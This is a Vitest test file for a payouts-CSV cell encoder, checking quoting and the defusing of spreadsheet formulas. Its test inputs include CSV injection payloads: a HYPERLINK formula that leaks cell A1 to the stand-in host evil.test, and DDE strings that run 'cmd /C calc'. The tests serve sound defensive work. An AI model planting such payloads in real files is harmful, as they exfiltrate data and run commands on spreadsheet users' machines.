import { describe, expect, it } from 'vitest';
import { csvCell } from '../src/money.ts';

// The payouts export: every cell quoted, quotes doubled, and text a spreadsheet would run as a formula
// (starting with =, +, -, @, a tab or a carriage return) defused with a leading apostrophe.

describe('a cell of the payouts CSV', () => {
  it.each([
    ['=HYPERLINK("http://evil.test?"&A1,"Click")', `"'=HYPERLINK(""http://evil.test?""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('defuses a formula: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it.each([
    ['Acme, Inc.', '"Acme, Inc."'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a\r\nb,"c"', '"a\r\nb,""c"""'],
    ['",=1+1,"', '""",=1+1,"""'],
    ["O'Neil", '"O\'Neil"'],
    [42, '"42"'],
    ['', '""'],
  ])('keeps %j in one cell', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('a row of hostile cells parses back to exactly its cells', () => {
    const values = ['=1+1', 'a,b', 'say "x"', 'line\nbreak', '@x'];
    const row = values.map(csvCell).join(',');
    // A minimal RFC 4180 reader: quoted cells, doubled quotes.
    const cells = [...row.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => m[1]!.replace(/""/g, '"'));
    expect(cells).toEqual(["'=1+1", 'a,b', 'say "x"', 'line\nbreak', "'@x"]);
  });
});
